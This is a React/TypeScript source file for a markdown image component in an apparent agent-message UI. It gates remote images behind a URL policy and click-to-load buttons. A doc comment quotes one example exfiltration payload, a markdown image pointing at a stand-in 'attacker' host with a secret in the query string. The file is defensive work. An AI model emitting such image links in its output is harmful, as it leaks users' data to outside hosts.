'use client';

import * as React from 'react';
import { revealInvisible } from '../../../core/safety/invisible.js';
import { useLabels, useUrlPolicy } from '../../provider/agent-messages-provider.js';
import { REMOTE_IMAGE_LOADING } from '../../primitives/remote-image.js';
import { InsideLinkContext } from './link.js';
import { PENDING_IMAGE, RAW_SRC } from '../../../markdown/index.js';
import type { HastNodeProps } from './hast-to-react.js';

/* -------------------------------------------------------------------------------------------------
 * MarkdownImage
 * -----------------------------------------------------------------------------------------------*/

type MarkdownImageProps = React.ComponentPropsWithoutRef<'img'> & HastNodeProps;

/**
 * A markdown image through the URL policy. Only same-origin and allow-listed images load by
 * themselves; any other is a button naming its host, and nothing is requested before the click
 * (the `![](https://attacker/?q=secret)` exfiltration defence). A rejected source is a labelled
 * placeholder that shows it.
 */
function MarkdownImage({ node, alt }: MarkdownImageProps) {
  const policy = useUrlPolicy();
  const labels = useLabels();
  const insideLink = React.useContext(InsideLinkContext);
  // The URL the user asked for, not a flag: react-markdown reuses this component at the same
  // position when streamed text regroups, and a click on one image must not load the next.
  const [requestedHref, setRequestedHref] = React.useState<string | null>(null);
  const raw = String(node?.properties[RAW_SRC] ?? '');
  const altText = typeof alt === 'string' ? revealInvisible(alt) : '';

  // An image whose URL is still streaming: show its alt text for now.
  if (node?.properties[PENDING_IMAGE] !== undefined) {
    return (
      <span data-slot="text-block-image" data-state="pending">
        {altText}
      </span>
    );
  }

  const decision = policy(raw, 'image');
  if (!decision.allowed) {
    return (
      <span data-slot="text-block-image" data-state="blocked">
        {labels.blockedImage}
        {altText !== '' ? `: ${altText}` : ''}
        <span data-slot="text-block-image-target"> ({revealInvisible(raw)})</span>
      </span>
    );
  }

  if (decision.autoLoad || requestedHref === decision.href) {
    return (
      <img
        data-slot="text-block-image"
        data-state="loaded"
        src={decision.href}
        alt={altText}
        {...REMOTE_IMAGE_LOADING}
      />
    );
  }

  const host = revealInvisible(decision.host ?? decision.href);
  if (insideLink) {
    return (
      <span data-slot="text-block-image" data-state="click-to-load">
        {labels.media.image}
        {altText !== '' ? `: ${altText}` : ''} ({host})
      </span>
    );
  }
  return (
    <button
      type="button"
      data-slot="text-block-image"
      data-state="click-to-load"
      onClick={() => setRequestedHref(decision.href)}
    >
      <span data-slot="text-block-image-load">{labels.loadMedia(host)}</span>
      {altText !== '' ? <span data-slot="text-block-image-alt"> {altText}</span> : null}
    </button>
  );
}

export { MarkdownImage };
